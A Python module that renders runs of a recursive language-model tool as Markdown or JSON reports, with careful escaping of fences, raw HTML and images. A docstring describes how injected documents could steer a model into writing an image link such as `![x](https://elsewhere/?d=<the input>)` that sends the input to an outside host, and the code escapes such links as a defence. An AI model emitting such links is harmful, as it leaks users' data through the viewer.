"""A run as a Markdown report: the task, each iteration's prose, code, output and figures, the answer.

Each event type has its renderer in `RENDERERS` (a test checks that every type has one); types that
add nothing to a report, such as progress counters, say so with `_nothing`.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable
from typing import Any

from .store import RunRecord

Lines = list[str]
Renderer = Callable[[dict[str, Any]], Lines]


def _fenced(kind: str, text: object) -> Lines:
    """`text` in a code block whose fence is longer than any run of backticks in it (CommonMark): output cannot
    close the block and put its own Markdown or HTML in the report."""
    body = str(text).rstrip()
    longest = max((len(run) for run in re.findall(r"`+", body)), default=0)
    fence = "`" * max(3, longest + 1)
    return [f"{fence}{kind}", body, fence, ""]


_LINE_END = re.compile(r"\r\n|\r|\n")
"""CommonMark's line endings: a renderer takes a lone carriage return for one too."""
_FENCE_LINE = re.compile(r"([ \t]*)(`{3,}|~{3,})(.*)")
"""A line that may open or close a code block: its indentation, its fence, and what follows."""
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
"""Where raw HTML (a tag, a comment, a declaration) would begin."""
_IMAGE = re.compile(r"(?<!\\)((?:\\\\)*)!\[")
"""An image's `![`, after an even number of backslashes (which escape one another, not the `!`)."""


def _prose(line: str) -> str:
    return _IMAGE.sub(r"\1\\![", _TAG.sub("&lt;", line))


def _inert(text: object, *, inline: bool = False) -> str:
    """Prose the models wrote (a document can steer them) with nothing in it that loads from elsewhere when the
    report is displayed, as the page allows none (SECURITY.md): an image becomes a link (CommonMark's escaped
    `\\!`), and raw HTML shows as text (`&lt;`), so `![x](https://elsewhere/?d=<the input>)` or an `<img>`
    cannot send the input out from a Markdown viewer. Code in fenced blocks is left as written; inline code
    shows those two escapes (where a code span ends is not safely known without a whole CommonMark parser).
    `inline`: the text goes on after something else on its first line, which therefore opens no block."""
    # A block this reading and a renderer's disagree on would leave prose raw, so each fence line is read as
    # CommonMark reads it or made no fence at all: only an unindented fence opens a block (an indented one may
    # belong to a list item, which a later unindented line ends, and its block with it; so an indented one is
    # escaped, `\```, and opens nothing anywhere); a block closes on its fence's character, at least as many,
    # indented 0-3 spaces, with nothing after but spaces and tabs (a tab in that indentation is escaped too:
    # inside a child's quote, `> `, it counts as fewer columns than at the start of a line); lines end where a
    # renderer ends them; and a block left open is closed, so that the next section of the report starts
    # outside any block.
    lines, fence = [], ""
    for number, line in enumerate(_LINE_END.split(str(text))):
        shape = _FENCE_LINE.fullmatch(line)
        if fence:
            if shape and shape[2][0] == fence[0] and len(shape[2]) >= len(fence) and not shape[3].strip(" \t"):
                if "\t" in shape[1]:
                    line = f"{shape[1]}\\{shape[2]}{shape[3]}"
                elif len(shape[1]) <= 3:
                    fence = ""
            lines.append(line)
        elif shape and shape[1]:
            lines.append(_prose(f"{shape[1]}\\{shape[2]}{shape[3]}"))
        elif shape and not (inline and number == 0) and (shape[2][0] == "~" or "`" not in shape[3]):
            fence = shape[2]
            lines.append(line)
        else:
            lines.append(_prose(line))
    if fence:
        lines.append(fence)
    return "\n".join(lines)


def _start(event: dict[str, Any]) -> Lines:
    return [f"- **Models**: {event.get('model')} (sub-calls: {event.get('sub_model')})", ""]


def _thought(event: dict[str, Any]) -> Lines:
    return [_inert(event.get("text", "")), ""]


def _code(event: dict[str, Any]) -> Lines:
    return _fenced("python", event.get("code", ""))


def _output(event: dict[str, Any]) -> Lines:
    lines: Lines = []
    if event.get("stdout"):
        lines += _fenced("text", event["stdout"])
    if event.get("error"):
        lines += ["Error:", "", *_fenced("text", event["error"])]
    return lines


def _figure(event: dict[str, Any]) -> Lines:
    return [f"![figure](data:{event.get('mime', 'image/png')};base64,{event.get('data', '')})", ""]


def _nothing(event: dict[str, Any]) -> Lines:
    """Progress (`subcalls`), the answer as it grows (`answer`), running totals (`usage`): the report
    shows the end state instead."""
    return []


def _final(event: dict[str, Any]) -> Lines:
    usage = event.get("usage") or {}
    root, sub = usage.get("root") or {}, usage.get("sub") or {}
    lines = [
        f"*{event.get('iterations')} iterations, {event.get('elapsed_ms', 0) / 1000:.1f} s; root model "
        f"{root.get('input_tokens', 0):,} input / {root.get('output_tokens', 0):,} output tokens, sub-calls "
        f"{sub.get('requests', 0):,} ({sub.get('input_tokens', 0):,} / {sub.get('output_tokens', 0):,}).*",
        "",
    ]
    if event.get("note"):
        lines += [f"> {_inert(event['note'], inline=True)}", ""]
    return lines


def _error(event: dict[str, Any]) -> Lines:
    return ["## Error", "", f"`{event.get('code')}`: {_inert(event.get('message'), inline=True)}", ""]


def _child(event: dict[str, Any]) -> Lines:
    kind, data = str(event.get("event")), event.get("data") or {}
    if kind not in ("code", "output", "final", "error"):
        return []
    inner = RENDERERS[kind](data)
    title = f"**Child run, depth {event.get('depth')}** ({kind}):"
    # every line of the quote marked, those inside an item too: an unmarked one would end the quote and the code
    # block in it, and a child's output would go on as the report's own Markdown
    lines = _LINE_END.split("\n".join([title, "", *inner]))
    return [f"> {line}" if line else ">" for line in lines] + [""]


RENDERERS: dict[str, Renderer] = {
    "start": _start,
    "thought": _thought,
    "code": _code,
    "subcalls": _nothing,
    "output": _output,
    "figure": _figure,
    "answer": _nothing,
    "usage": _nothing,
    "final": _final,
    "error": _error,
    "child": _child,
}


def export_json(record: RunRecord, events: list[dict[str, Any]]) -> str:
    """The run and its events as one indented JSON document."""
    return json.dumps({"run": record.to_dict(), "events": events}, ensure_ascii=False, indent=1)


def export_markdown(record: RunRecord, events: list[dict[str, Any]]) -> str:
    """The run as one Markdown document."""
    when = time.strftime("%Y-%m-%d %H:%M:%S UTC", time.gmtime(record.created))
    lines = [
        f"# RLM run {record.id}",
        "",
        f"- **Started**: {when}",
        f"- **Status**: {record.status}",
        f"- **Input**: {record.input_chars:,} characters, {record.input_lines:,} lines"
        + (f" ({record.input_name})" if record.input_name else ""),
        "",
        "## Task",
        "",
        _inert(record.prompt),
        "",
    ]
    iteration = None
    for event in events:
        kind = str(event.get("type"))
        if kind in ("thought", "code", "output") and event.get("iteration") != iteration:
            iteration = event.get("iteration")
            lines += [f"## Iteration {iteration}", ""]
        lines += RENDERERS.get(kind, _nothing)(event)
    if record.answer:
        lines += ["## Answer" + ("" if record.ready else " (not marked ready)"), "", _inert(record.answer), ""]
    return "\n".join(lines)
